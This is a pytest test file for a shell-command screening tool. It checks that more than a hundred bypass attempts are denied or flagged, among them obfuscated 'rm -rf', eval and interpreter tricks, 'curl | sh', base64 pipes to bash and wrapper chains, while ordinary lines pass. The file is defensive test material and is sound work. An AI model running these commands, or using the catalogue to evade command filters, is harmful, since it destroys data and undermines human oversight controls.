"""The shell reader and its scope, without sockets: bypass attempts and honest work (bash itself
judges how words expand in tests/e2e/test_shell_analysis_e2e.py)."""

from __future__ import annotations

import tomllib
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bastion.core.rules import CommandRequest, RuleSet, parse_rules
from bastion.core.shellexpand import brace_expand
from bastion.core.shellscope import Scope, analyze
from bastion.core.shellsplit import parse
from bastion.core.shellwords import Match, Word, intersects, match_glob
from bastion.core.wrappers import WRAPPERS, unwrap

RULES = parse_rules(tomllib.loads('''
[defaults]
action = "allow"

[[rule]]
name = "no-recursive-rm"
action = "deny"
program = "rm"
args = ["-*[rR]*"]

[[rule]]
name = "no-forbidden"
action = "deny"
command = "forbidden"

[[rule]]
name = "drops-need-a-dba"
action = "approve"
command = "(?i)drop\\\\s+(table|database)"
approvers = ["dba"]
'''))


def decide(line: str, scope: Scope | None = None, rules: RuleSet = RULES, *, interactive: bool = True):  # type: ignore[no-untyped-def]
    analysis = analyze(line, scope, interactive=interactive)
    return rules.decide(CommandRequest("alice", frozenset(), "db-1", "root", "shell", line, analysis=analysis))


def session(*lines: str) -> Scope:
    """The scope after `lines` ran, each allowed."""
    scope = Scope()
    for line in lines:
        analysis = analyze(line, scope, interactive=True)
        assert not analysis.unsure, (line, analysis.unsure)
        scope = analysis.scope
    return scope


# Each of these would run `rm -r` (or a forbidden word) on the target: denied or unsure, never allowed.
BYPASSES = [
    # expansions in the command word or an argument a rule's args decide
    "a=rm; $a -rf x", "${a:-rm} -rf x", "/bin/r[m] -rf x", "r? -rf x", "/bin/r* -rf x", "{rm,-rf,x}",
    "IFS=,; x=rm,-rf,x; $x", "rm $(echo -rf) x", "rm `printf -- -rf` x", "x=-rf; rm $x y",
    "rm \"$FLAGS\" x", "rm ${1} x", "set -- -rf; rm \"$@\" x", "$(echo rm) -rf x", "\"$(printf rm)\" -rf x",
    "rm -$(echo r)f x", "r${x}m -rf x", "rm -r\\f x", "r''m -rf x", "$'\\x72\\x6d' -rf x", "rm -{r,f} x",
    # eval, interpreters and shells reading text
    "eval \"$cmd\"", "eval $(echo rm -rf x)", "eval 'rm -rf x'", "echo 'rm -rf x' | bash", "echo rm -rf x | sh -s",
    "printf 'rm -rf x' | bash", "bash <<< 'rm -rf x'", "bash <<EOF\nrm -rf x\nEOF", "sh <<'EOF'\nrm -rf x\nEOF",
    "cat cmds.txt | bash", "curl -s http://x | sh", "base64 -d <<< cm0gLXJmIHg= | bash", "bash <(echo rm -rf x)",
    "source <(echo rm -rf x)", ". /dev/stdin <<< 'rm -rf x'", "python3 -c 'import os; os.system(\"rm -rf x\")'",
    "echo 'import os' | python3", "perl -e 'system(\"rm -rf x\")'", "python3 - <<EOF\nimport os\nEOF",
    "bash -c \"$x\"", "sh -c 'rm -rf x'", "zsh -c 'rm -rf x'", "dash -ec 'rm -rf x'", "busybox sh -c 'rm -rf x'",
    "busybox rm -rf x", "awk 'BEGIN{system(\"rm -rf x\")}'", "sed -n '1e rm -rf x' f", "sed 's/.*/rm -rf x/e' f",
    "find . -exec rm -rf {} +", "find . -execdir rm -rf {} \\;", "echo x | xargs rm -rf", "xargs -I{} rm -rf {}",
    # history
    "!!", "!rm", "!-2", "^ls^rm -rf", "fc -s", "fc -e - rm", "r rm", "echo ok; !!",
    # wrappers and their options
    "sudo -u root rm -rf x", "sudo -g wheel -- rm -rf x", "sudo --user=root rm -rf x", "sudo -i rm -rf x",
    "exec -a name rm -rf x", "timeout -s KILL 5 rm -rf x", "timeout --signal=KILL 5s rm -rf x", "nice -n 5 rm -rf x",
    "nice -5 rm -rf x", "env -S 'rm -rf x'", "env -u HOME rm -rf x", "env -i PATH=/bin rm -rf x", "xargs -n 1 rm -rf",
    "flock /tmp/l rm -rf x", "flock -c 'rm -rf x' /tmp/l", "flock /tmp/l -c 'rm -rf x'", "taskset 0x1 rm -rf x",
    "taskset -c 0 rm -rf x", "setsid -f rm -rf x", "stdbuf -oL rm -rf x", "ionice -c 3 rm -rf x",
    "chroot / rm -rf x", "script -qc 'rm -rf x' /dev/null", "su -c 'rm -rf x'", "su root -c 'rm -rf x'",
    "runuser -u root -- rm -rf x", "runuser -l root -c 'rm -rf x'", "doas -u root rm -rf x", "watch -n 1 rm -rf x",
    "watch 'rm -rf x'", "nohup rm -rf x &", "time rm -rf x", "command rm -rf x", "builtin eval 'rm -rf x'",
    "timeout --new-option 5 rm -rf x", "sudo --mystery rm -rf x", "strace -f rm -rf x", "ssh db2 rm -rf x",
    "ssh -p 22 -o Foo=bar db2 'rm -rf x'", "docker exec web rm -rf x", "kubectl exec pod -- rm -rf x",
    "sg wheel 'rm -rf x'", "unbuffer rm -rf x", "nsenter -t 1 -m rm -rf x", "unshare -r rm -rf x",
    "chrt 10 rm -rf x",
    # a glob can name a file called -rf: `touch ./-rf; rm *`
    "rm *", "rm -f *.tmp", "rm @(-r) x", "find . | xargs rm",
    # found by an independent attack: where a reader that is not bash disagreed with bash
    "{fd}>/dev/null rm -rf x", "a[$(rm -rf x)]=1", "read 'y[$(rm -rf x)]' <<< 1", "printf -v 'y[$(rm -rf x)]' 1",
    "declare 'y[$(rm -rf x)]=1'", "test -v 'y[$(rm -rf x)]'", "[[ -v 'a[$(rm -rf x)]' ]]",
    "let 'x=a[$(rm -rf x)]'", "x='a[$(rm -rf x)]'; echo ${y[x]}", "echo $((echo hi); rm -rf x)",
    "((echo hi); rm -rf x)", "cat <<$'EOF'\nx\nEOF\nrm -rf x\n$EOF", "eval -- 'rm -rf x'", "bash -c -- 'rm -rf x'",
    "BASH_ALIASES[q]=rm; q -rf x", "BASH_CMDS[q]=/bin/rm; q -rf x", "alias n='nice '; alias y=rm; n y -rf x",
    "printf -v PROMPT_COMMAND 'rm -rf x'", "read -r PROMPT_COMMAND <<< 'rm -rf x'", "BASH_ENV=<(echo rm -rf x) bash -c :",
    "bash /dev/stdin <<< 'rm -rf x'", ". /dev/fd/0 <<< 'rm -rf x'", "{ sh; } <<< 'rm -rf x'", "(sh) <<< 'rm -rf x'",
    "sh < <(echo 'rm -rf x')", "exec 3<<< 'rm -rf x'; sh <&3", "echo $(<$(rm -rf x))",
    "echo 'rm\\x20-rf x' | bash", "python3 -Ic 'import os'", "perl -le 'system(1)'", "python3.11 -c 'import os'",
    "python3 /dev/stdin", "awk 'BEGIN { c = \"rm -rf x\"; print \"\" | c }'", "awk '{ c | getline }'",
    "sed -n '$e rm -rf x' f", "sed --expression='1e rm -rf x' f", "setpriv rm -rf x", "prlimit rm -rf x",
    "tmux -L a new -d 'rm -rf x'", "ssh -o ProxyCommand='rm -rf x' nohost", "vim -es -c '!rm -rf x' -c q",
    "tar cf /dev/null --checkpoint-action=exec='rm -rf x' f", "sqlite3 :memory: '.shell rm -rf x'",
    "alias -g X=-rf; rm X x", "echo /tmp(e:'rm -rf x':)", "noglob rm -rf x", "rm $=x y", "echo ${(e)x}",
    "sudo X=1 rm -rf x", "git -c core.pager='rm -rf x' log", "ed -s f <<< '!rm -rf x'",
    # text the shell runs later
    "trap 'rm -rf x' EXIT", "PROMPT_COMMAND='rm -rf x'", "PS1='$(rm -rf x) $ '", "alias ls='rm -rf'",
    "bind -x '\"\\C-t\": rm -rf x'", "bind '\"\\C-t\": \"rm -rf x\\n\"'", "complete -C 'rm -rf x' ls",
    "print -z 'rm -rf x'", "f() { rm -rf x; }", "function f { rm -rf x; }", "hash -p /bin/rm ls; ls -rf x",
    "x='a[$(rm -rf x)]'; echo $((x))", "read -r x; echo $(( x ))",
    # the regex rule: the forbidden word split, encoded, built
    "echo forbidden", "touch /tmp/forbidden", "f=forb; touch /tmp/${f}idden", "touch /tmp/{forb,x}idden",
    "touch /tmp/forb''idden", "touch /tmp/forb\\idden", "x=forbidden; echo ok; touch $x",
    "psql -c 'DROP  TABLE users'", "q='drop table users'; psql -c \"$q\"",
]


@pytest.mark.parametrize("line", BYPASSES)
def test_bypass_attempts_are_denied_or_unsure(line: str) -> None:
    verdict = decide(line)
    assert verdict.action in ("deny", "approve") or verdict.unsure, (line, verdict)


def test_definitions_of_earlier_lines_are_carried() -> None:
    assert decide("$a -rf x", session("a=rm")).action == "deny"
    assert decide("ll x", session("alias ll='rm -rf'")).action == "deny"
    assert decide("cleanup", session("cleanup() { rm -rf /tmp/x; }")).action == "deny"
    assert decide("$d", session("for d in rm; do :; done")).action == "allow"  # bare `rm`: no -r
    # unset: empty, so the next word is the command (as in bash)
    assert [c.text for c in analyze("$x -rf y", session("x=ls", "unset x")).commands] == ["-rf y"]
    # An alias defined on an earlier line but unknown to the shell that runs it: both are screened.
    assert decide("ls /tmp", session("alias ls='ls --color'")).action == "allow"


def test_programs_that_read_their_input_as_code() -> None:
    assert analyze("python3").unsure  # a script on stdin: `printf 'python3\nimport os\n' | ssh -T host`
    assert analyze("python3", interactive=True).unsure  # its lines are Python, not shell
    assert analyze("sqlite3 db").unsure and analyze("psql -h db").unsure
    assert not analyze("psql -h db", interactive=True).unsure  # SQL typed at its prompt is read as lines
    assert not analyze("psql -c 'select 1'").unsure and not analyze("ed -s f <<< 'w'").unsure


def test_keys_and_terminal_changes_are_noticed() -> None:
    assert session("set -o vi").vi_mode
    assert not session("set -o vi", "set -o emacs").vi_mode
    assert session("stty -isig").tty_changed
    # The terminal is the session's: a subshell or a child shell that changes it changes it.
    assert session("(stty -isig)").tty_changed and session("bash -c 'stty intr undef'").tty_changed
    assert session("x=$(stty -echo)").echo_off
    assert session("stty intr undef").tty_changed
    assert not session("stty -isig", "stty sane").tty_changed
    assert not session("stty kill undef").tty_changed  # Ctrl-C still interrupts
    assert not session("stty -a").tty_changed
    assert session("trap '' INT").interrupt_trapped and session("trap 'echo x' SIGINT").interrupt_trapped
    assert not session("trap 'echo x' EXIT").interrupt_trapped
    assert session("stty -echo").echo_off and not session("stty -echo", "stty echo").echo_off
    assert session("bind '\"\\C-x\": accept-line'").keys_changed
    assert not session("bind -p").keys_changed
    assert session("zle -N zle-line-init").keys_changed
    assert session("zle -N self-insert my-insert").keys_changed
    assert not session("zle -l").keys_changed
    assert not session("set +H").history_expansion


def test_history_expansion_only_where_bash_expands() -> None:
    for honest in ["echo 'hi!'", 'echo "hi!"', "[ ! -f x ] && echo no", "x!=y", "echo hi \\!x", "echo ${!x}",
                   "if ! grep -q x f; then echo; fi"]:
        assert not analyze(honest, interactive=True).unsure, honest
    assert analyze("echo !x", interactive=True).unsure
    assert not analyze("echo !x", interactive=False).unsure  # scripts do not expand history
    assert not analyze("echo !x", session("set +H"), interactive=True).unsure


HONEST = [
    'echo "please do not rm -rf /"', "x=1; echo $x", "cd -", "for f in *.log; do gzip \"$f\"; done",
    "while read -r l; do echo \"$l\"; done < f", 'echo "a\nb"', "ls | grep x | sort | uniq -c",
    "mkdir -p d/{a,b,c}", "cp f{,.bak}", "rm -f ./*.tmp", "rm old.log", "find . -name '*.pyc' -print0 | xargs -0 rm -f",
    "git commit -m 'rm -rf is dangerous'", "kubectl get pods -o name | xargs -I{} kubectl describe {}",
    "tar czf b-$(date +%F).tgz dir", "echo ${HOME:-/root}", "sudo systemctl restart nginx",
    "case $1 in start) run;; esac", "export -n x=-r", "ls @(a|b)", "cat <<'E\\OF'\nrm -rf x\nE\\OF", "if [[ -f x ]]; then cat x; fi", "[[ $n -gt 3 ]] && echo big",
    "cat <<'EOF' > notes.txt\nrm -rf / is a joke\nEOF", "ssh web1 uptime", "watch -n 5 'kubectl get pods'",
]


@pytest.mark.parametrize("line", HONEST)
def test_honest_lines_are_decided_exactly(line: str) -> None:
    verdict = decide(line)
    assert verdict.action == "allow" and not verdict.unsure, (line, verdict)


def test_ordinary_work_corpus_has_no_unsure_line() -> None:
    """Hundreds of real-world lines, run as one session: none is unsure, none is held."""
    scope, unsure = Scope(), []
    lines = (Path(__file__).parent / "corpus" / "ordinary.txt").read_text().splitlines()
    for raw in lines:
        line = raw.replace("\\n", "\n")
        analysis = analyze(line, scope, interactive=True)
        verdict = RULES.decide(CommandRequest("alice", frozenset(), "db-1", "root", "shell", line,
                                              analysis=analysis))
        if verdict.unsure or analysis.incomplete:
            unsure.append((line, verdict.why, analysis.incomplete))
        scope = analysis.scope
    assert len(lines) > 400
    assert unsure == []


def test_incomplete_lines_wait_for_their_end() -> None:
    for line in ["for f in *; do", 'echo "abc', "cat <<EOF\nx", "ls |", "if true; then", "f() {", "echo \\"]:
        assert analyze(line).incomplete, line
    assert not analyze("for f in *; do\necho $f\ndone").incomplete
    # What an unfinished line already contains is screened all the same.
    assert decide("for f in *; do\nrm -rf $f").action == "deny"


def test_the_cost_of_a_line_is_bounded() -> None:
    """A huge line is read only so far (the rest is unsure): one user's line must not hold up
    every other session on the bastion for seconds."""
    for line in ["rm -rf / " + "a " * 200_000, "echo " + "a=b; " * 100_000, "x" * 2_000_000]:
        analysis = analyze(line)
        assert analysis.unsure
    assert decide("rm -rf / " + "a " * 200_000).action == "deny"  # what was read still decides


def test_syntax_errors_are_unsure_and_still_screened() -> None:
    verdict = decide("done; rm -rf x")
    assert verdict.action == "deny"
    assert decide("fi; ls").unsure


# -- words -------------------------------------------------------------------------------------

def test_globs_intersect() -> None:
    assert intersects("*/x", "/") is False
    assert intersects("*.log", "-*[rR]*") is True
    assert intersects("./*", "-*") is False
    assert intersects("r[m]", "rm") and intersects("a?c", "abc") and not intersects("x*y", "*z")
    assert match_glob(Word.of("-rf"), "-*[rR]*") is Match.YES
    assert match_glob(Word.of("-f"), "-*[rR]*") is Match.NO


@given(st.text(alphabet="ab*?-/.", max_size=6), st.text(alphabet="ab-/.", max_size=6))
@settings(max_examples=300)
def test_a_glob_intersects_every_string_it_matches(glob: str, text: str) -> None:
    import fnmatch
    if fnmatch.fnmatchcase(text, glob):
        assert intersects(glob, text.replace("*", "[*]").replace("?", "[?]"))


@pytest.mark.parametrize(("source", "words"), [
    ("{a,b}c", ["ac", "bc"]), ("x{1..3}", ["x1", "x2", "x3"]), ("{a,'b c'}", ["a", "'b c'"]),
    ("a{b,c{d,e}}", ["ab", "acd", "ace"]), ("${x}{a,b}", ["${x}a", "${x}b"]), ("{a}", ["{a}"]),
    ("'{a,b}'", ["'{a,b}'"]), ("{}", ["{}"]), ("{05..07}", ["05", "06", "07"]),
])
def test_brace_expansion(source: str, words: list[str]) -> None:
    assert brace_expand(source) == words


# -- parsing ---------------------------------------------------------------------------------

def test_here_documents_and_compound_commands() -> None:
    parsed = parse("cat <<EOF | bash\nrm x\nEOF\nls")
    assert [c.words for c in parsed.commands] == [["cat"], ["bash"], ["ls"]]
    assert parsed.commands[0].redirects[0].body == "rm x\n"
    parsed = parse("case $x in a|b) rm x;; *) ls;; esac")
    assert [c.words for c in parsed.commands if not c.special] == [["rm", "x"], ["ls"]]
    assert parse("[[ a < b && -f x ]] && rm y").commands[-1].words == ["rm", "y"]


# -- wrappers ---------------------------------------------------------------------------------

WRAPPED = st.sampled_from([
    ["sudo", "-u", "root"], ["sudo", "-E"], ["sudo", "--"], ["env", "A=1"], ["env", "-u", "X"], ["nice", "-n", "3"],
    ["timeout", "5"], ["timeout", "-k", "1", "5s"], ["nohup"], ["stdbuf", "-oL"], ["exec", "-a", "x"],
    ["ionice", "-c", "2", "-n", "7"], ["setsid"], ["taskset", "-c", "0"], ["xargs"], ["time", "-p"],
    ["flock", "/tmp/l"], ["chroot", "/"], ["command"], ["doas", "-u", "root"],
])


@given(st.lists(WRAPPED, min_size=1, max_size=4))
@settings(max_examples=200)
def test_any_chain_of_wrappers_reaches_the_command(chain: list[list[str]]) -> None:
    line = " ".join(" ".join(w) for w in chain) + " rm -rf x"
    assert decide(line, interactive=False).action == "deny", line


def test_unknown_wrapper_options_are_unsure() -> None:
    result = unwrap(WRAPPERS["timeout"], ["--bogus", "5", "rm"], [True, True, True])
    assert "does not know" in result.unknown
    assert decide("nice --weird 3 ls").unsure
